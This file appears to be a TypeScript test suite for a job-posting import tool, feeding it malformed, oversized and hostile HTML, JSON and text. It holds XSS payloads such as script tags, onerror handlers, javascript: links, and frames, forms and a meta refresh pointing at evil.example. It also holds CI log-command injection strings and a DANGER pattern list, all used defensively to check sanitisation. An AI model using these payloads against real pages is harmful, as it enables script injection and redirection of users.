import { document, type TrustCase } from '../trust-case.ts'

const ROLE = `<h1>Senior Rig Architect</h1><h2>Responsibilities</h2><ul><li>Run the platform</li><li>Keep it whole</li></ul>
<h2>Skills</h2><h3>Must-have technical skills</h3><ul><li><strong>Kubernetes</strong> (Critical): clusters</li><li><strong>Terraform</strong> (Important): modules</li></ul>`

function page(inside: string, head = ''): string {
  return `<!doctype html><html><head><title>Senior Rig Architect</title>${head}</head><body><article>${ROLE}${inside}</article></body></html>`
}

/** Imported text must never hold what a browser would run, hide or fetch. */
const DANGER = [/alert\(/, /javascript:/i, 'evil.example', 'PWNED']
const read = { code: [0, 1], says: [/Kubernetes|--limit [a-zA-Z]+=/], product: DANGER } as const

const html: readonly [string, () => string][] = [
  ['10,000 nested div', () => page(`${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}`)],
  ['100,000 nested div, unclosed', () => page('<div>'.repeat(100_000))],
  ['500 nested lists', () => page(`${'<ul><li>'.repeat(500)}x${'</li></ul>'.repeat(500)}`)],
  ['10,000 nested lists', () => page('<ul><li>'.repeat(10_000))],
  ['10,000 nested tables', () => page('<table><tr><td>'.repeat(10_000))],
  ['10,000 nested quotes', () => page('<blockquote>'.repeat(10_000))],
  ['10,000 nested b', () => page('<b>'.repeat(10_000))],
  ['10,000 b and i in turn', () => page('<b><i><a href=x>'.repeat(10_000))],
  ['misnested formatting', () => page('<b><p><i></b>'.repeat(5_000))],
  ['10,000 nested font', () => page('<font><p>'.repeat(10_000))],
  ['10,000 nested span', () => page('<span>'.repeat(10_000))],
  ['10,000 nested svg', () => page('<svg><g>'.repeat(10_000))],
  ['10,000 nested select', () => page('<select><option>'.repeat(10_000))],
  ['10,000 nested template', () => page('<template>'.repeat(10_000))],
  ['10,000 own elements', () => page('<x-y>'.repeat(10_000))],
  ['colspan 1e8', () => page('<table><tr><td colspan=100000000 rowspan=100000000>x</td></tr></table>')],
  [
    '1,000 wide cells',
    () => page(`<table>${'<tr><td colspan=1000 rowspan=65534>x</td></tr>'.repeat(1_000)}</table>`),
  ],
  ['an unclosed comment', () => page('<!-- PWNED <script>alert(1)</script>')],
  ['an unclosed script', () => page('<script>alert(1) PWNED')],
  ['an unclosed style', () => page('<style>x{background:url(//evil.example)}')],
  ['an unclosed textarea', () => page('<textarea>PWNED')],
  ['plaintext', () => page('<plaintext>rest')],
  ['a script', () => page('<script>alert(1)</script><script src=//evil.example/x.js></script>')],
  ['a script in capitals with blanks', () => page('<SCRIPT\n>alert(1)</SCRIPT\t\n>')],
  ['a script within a script', () => page('<scr<script>ipt>alert(1)</script>')],
  ['handlers', () => page('<p onclick="alert(1)" onmouseover=alert(1)>x</p><img src=x onerror=alert(1)>')],
  [
    'frames',
    () =>
      page(
        '<iframe src=//evil.example></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//evil.example></object><embed src=//evil.example>',
      ),
  ],
  [
    'meta refresh and base',
    () =>
      page(
        '<a href="x">y</a>',
        '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/">',
      ),
  ],
  [
    'javascript: links',
    () =>
      page(
        '<a href="javascript:alert(1)">a</a><a href=" jAvAsCrIpT:alert(1)">b</a><a href="java&#10;script:alert(1)">c</a>',
      ),
  ],
  [
    'data: links',
    () =>
      page(
        '<a href="data:text/html,<script>alert(1)</script>">a</a><img src="data:image/svg+xml,<svg onload=alert(1)>">',
      ),
  ],
  ['hidden text', () => page('<p hidden>PWNED</p><template>PWNED</template><noscript>PWNED</noscript>')],
  [
    'forms',
    () =>
      page(
        '<form action=//evil.example><input name=x value=PWNED><button formaction=//evil.example>Send</button></form>',
      ),
  ],
  [
    'styles',
    () => page('<p style="background:url(//evil.example)">x</p><link rel=stylesheet href=//evil.example>'),
  ],
  [
    'svg and math',
    () =>
      page(
        '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>t</text></a></svg><math><mtext></mtext></math>',
      ),
  ],
  ['CDATA and instructions', () => page('<![CDATA[PWNED]]><?php alert(1) PWNED ?>')],
  [
    '20,000 attributes',
    () => page(`<p ${Array.from({ length: 20_000 }, (_, i) => `a${i}=1`).join(' ')}>x</p>`),
  ],
  ['an attribute of 1 MB', () => page(`<p title="${'x'.repeat(1_000_000)}">x</p>`)],
  ['an unclosed attribute', () => page('<p title="unclosed>x</p>')],
  ['10,000 unclosed tags', () => page('<p '.repeat(10_000))],
  ['100,000 <', () => page('<'.repeat(100_000))],
  ['100,000 </', () => page('</'.repeat(100_000))],
  ['100,000 <!', () => page('<!'.repeat(100_000))],
  ['100,000 <!--', () => page('<!--'.repeat(100_000))],
  ['100,000 &', () => page('&'.repeat(100_000))],
  ['100,000 entities', () => page('&lt;'.repeat(100_000))],
  ['numeric entities out of range', () => page('<p>&#x110000;&#xD800;&#0;&#128;&#xFFFFFFFFFFFF;x</p>')],
  ['controls as entities', () => page('<p>a&#27;[31mred&#155;32m&#8238;txt&#7;&#x9d;0;title&#x9c;</p>')],
  ['200,000 br', () => page('<br>'.repeat(200_000))],
  ['50,000 items', () => page(`<ul>${'<li>x</li>'.repeat(50_000)}</ul>`)],
  ['50,000 rows', () => page(`<table>${'<tr><td>x</td><td>y</td></tr>'.repeat(50_000)}</table>`)],
  ['a row of 50,000 cells', () => page(`<table><tr>${'<td>x</td>'.repeat(50_000)}</tr></table>`)],
  ['a paragraph of 1 MB', () => page(`<p>${'word '.repeat(200_000)}</p>`)],
  ['a word of 1 MB', () => page(`<p>${'x'.repeat(1_000_000)}</p>`)],
  ['20,000 paragraphs', () => page('<p>x</p>'.repeat(20_000))],
  ['20,000 headings', () => page('<h2>x</h2>'.repeat(20_000))],
  ['Markdown as text', () => page(`<p>${'*a_ '.repeat(20_000)}</p><p>${'['.repeat(50_000)}</p>`)],
  ['log commands as text', () => page('<p>::error::PWN</p><p>##[error]x</p><p>##vso[task.setvariable]x</p>')],
]

const empty: readonly [string, string | (() => string), readonly (string | RegExp)[]][] = [
  ['a page without text', '<!doctype html><html><body><div></div></body></html>', [/no text|empty|nothing/i]],
  [
    'a page that needs scripts',
    '<!doctype html><html><body><div id=root></div><script>x</script></body></html>',
    [/no text|empty|nothing/i],
  ],
  [
    'a page of 3 MB',
    () => page(`<p>${'word '.repeat(600_000)}</p>`),
    [/limit|at most/, /--limit [a-zA-Z]+=|--max-bytes/],
  ],
  ['a page of 50 MB', () => page('x'.repeat(50_000_000)), [/limit/, '--max-bytes']],
  ['an unclosed title', '<!doctype html><title>X</title><title>PWNED<p>text</p>', [/no text|empty|nothing/i]],
  ['a page with nothing but a comment', '<!-- PWNED', [/no text|empty|nothing|title/i]],
]

const post = (content: string, more = ''): string =>
  `{"id":12,"date":"2026-04-13T10:00:00","link":"https://roles.example/x","title":{"rendered":"Senior Rig Architect"},"content":{"rendered":${JSON.stringify(content)},"protected":false}${more}}`

const json: readonly [string, string | (() => string), TrustCase['code'], readonly (string | RegExp)[]][] = [
  ['truncated', post(ROLE).slice(0, 200), 1, ['post.json:1', /breaks off|cut short/]],
  ['truncated behind a colon', '{"id":12,\n"content":', 1, ['post.json:2']],
  ['NaN', '{"id": NaN}', 1, ['post.json:1:8']],
  ['Infinity', '{"id":\n -Infinity}', 1, ['post.json:2']],
  ['a trailing comma', '{"id": 1,}', 1, ['post.json:1']],
  ['single quotes', "{'id': 1}", 1, ['post.json:1']],
  ['comments', '{/* x */"id": 1}', 1, ['post.json:1']],
  ['a control in a string', '{"id": "a\u0001b"}', 1, ['post.json:1']],
  ['text behind it', `${post(ROLE)}\n{}`, 1, ['post.json:2']],
  ['deep arrays', () => `${'['.repeat(100_000)}${']'.repeat(100_000)}`, 1, [/deeper|at most/, 'post.json:1']],
  ['deep objects', () => '{"a":'.repeat(100_000), 1, [/deeper/]],
  ['deep content', () => `{"content":${'{"rendered":'.repeat(10_000)}`, 1, [/deeper/]],
  [
    'a REST error',
    '{"code":"rest_post_invalid_id","message":"Invalid post ID.","data":{"status":404}}',
    1,
    ['Invalid post ID', 'rest_post_invalid_id'],
  ],
  [
    'a protected post',
    '{"id":1,"title":{"rendered":"X"},"content":{"rendered":"","protected":true}}',
    1,
    ['password'],
  ],
  [
    'an empty post',
    '{"id":1,"title":{"rendered":"X"},"content":{"rendered":"","protected":false}}',
    1,
    ['empty'],
  ],
  ['an empty array', '[]', 1, ['post.json:1']],
  ['an empty object', '{}', 1, ['post.json:1']],
  ['a number', '42', 1, []],
  ['null', '{"content":null}', 1, []],
  ['content as a number', '{"content":{"rendered":42}}', 1, []],
  ['prototype keys', '{"__proto__":{"content":{"rendered":"<p>x</p>"}},"constructor":1}', 1, ['post.json:1']],
  [
    'lone surrogates',
    `{"title":{"rendered":"A \\ud800 B"},"content":{"rendered":${JSON.stringify(ROLE)}}}`,
    [0, 1],
    [],
  ],
  [
    'controls as escapes',
    `{"title":{"rendered":"A \\u001b[31m\\u202eB"},"content":{"rendered":${JSON.stringify(ROLE)}}}`,
    [0, 1],
    [],
  ],
  ['a byte order mark', `\ufeff${post(ROLE)}`, [0, 1], ['Kubernetes']],
  ['duplicate keys', post(ROLE, ',"id":13'), [0, 1], ['Kubernetes']],
  ['a big id', post(ROLE, ',"parent":12345678901234567890'), [0, 1], ['Kubernetes']],
  ['an array of posts', `[${post(ROLE)},${post(ROLE)}]`, [0, 1], ['Kubernetes']],
  ['double-encoded entities', post(ROLE.replace('clusters', 'R&amp;amp;D')), [0, 1], ['R&amp;D']],
  [
    'an encoded script',
    post(ROLE.replace('clusters', '&lt;script&gt;alert(1)&lt;/script&gt;')),
    [0, 1],
    ['Kubernetes'],
  ],
  ['a script', post(`<script>alert(1) PWNED</script>${ROLE}`), [0, 1], ['Kubernetes']],
  ['10,000 nested div', () => post(ROLE + '<div>'.repeat(10_000)), [0, 1], ['Kubernetes']],
  ['100,000 posts', () => `[${Array(20_000).fill('{"id":1}').join(',')}]`, 1, []],
  ['1,000 posts with content', () => `[${Array(1_000).fill(post(ROLE)).join(',')}]`, [0, 1], []],
  ['3 MB', () => post('x'.repeat(3_000_000)), 1, [/--limit [a-zA-Z]+=|--max-bytes/]],
]

const text: readonly [string, () => string][] = [
  ['100,000 short lines', () => 'a\n'.repeat(100_000)],
  ['19,000 short lines', () => 'a\n'.repeat(19_000)],
  ['19,000 lines of list', () => '- a\n'.repeat(19_000)],
  ['numbers', () => '1.\n2.\n'.repeat(5_000)],
  ['capitals', () => 'RESPONSIBILITIES\nSKILLS\n'.repeat(2_000)],
  ['tabs', () => 'a\tb\tc\td\n'.repeat(4_000)],
  ['pipes', () => 'a | b | c\n'.repeat(4_000)],
  ['long lines', () => `${'word '.repeat(3_900)}\n`.repeat(20)],
  ['colons', () => 'a: b: c:\n'.repeat(5_000)],
  ['only punctuation', () => '—…•◦·\n'.repeat(5_000)],
]

const BULLETS = `Senior Rig Architect\n\nResponsibilities\n${'• do a thing\n'.repeat(18_000)}`

export const PAGE_CASES: readonly TrustCase[] = [
  ...html.map(([name, content]) => document(`page: ${name}`, 'page.html', content, read)),
  ...empty.map(([name, content, says]) =>
    document(`page: ${name}`, 'page.html', typeof content === 'string' ? () => content : content, {
      code: 1,
      says,
      product: DANGER,
    }),
  ),
  ...json.map(([name, content, code, says]) =>
    document(`JSON: ${name}`, 'post.json', typeof content === 'string' ? () => content : content, {
      code,
      says,
    }),
  ),
  ...text.map(([name, content]) => ({
    name: `text: ${name}`,
    args: ['extract', '--from', 'pasted-text', 'paste.txt'],
    files: () => ({ 'paste.txt': content() }),
    code: [0, 1],
  })),
  ...['brief', 'research-brief', 'posting-analysis', 'markdown', 'wordpress-json', 'html', 'pasted-text'].map(
    (form) => ({
      name: `a page read as ${form}`,
      args: ['extract', '--from', form, 'page.html'],
      files: () => ({ 'page.html': page('<div>'.repeat(5_000)) }),
      code: [0, 1],
    }),
  ),
  {
    name: 'text: 18,000 drawn bullets',
    args: ['extract', 'paste.txt'],
    files: () => ({ 'paste.txt': BULLETS }),
    code: 1,
    says: ['paste.txt:5004:1', 'list items', '--limit items=10000'],
  },
  {
    name: 'text: 18,000 drawn bullets with a higher limit',
    args: ['extract', '--limit', 'items=20000', 'paste.txt'],
    files: () => ({ 'paste.txt': BULLETS }),
    code: 0,
    json: true,
  },
  document(
    'JSON: an address with a bidirectional control',
    'post.json',
    () =>
      JSON.stringify({
        id: 1,
        link: 'https://x.example/\u202e\u001b[0m',
        title: { rendered: 'Senior Rig Architect' },
        content: { rendered: '<h2>Skills</h2><ul><li>Kubernetes</li></ul>' },
      }),
    { code: 0, json: true },
  ),
  {
    name: 'import writes Markdown in which nothing of a page is live',
    args: ['import', 'page.html', '-o', 'out.md'],
    files: () => ({
      'page.html': page(
        '<p onclick=alert(1)>x</p><script>alert(1)</script><a href="javascript:alert(1)">y</a>',
      ),
    }),
    code: [0, 1],
    makes: ['out.md'],
    product: DANGER,
  },
]
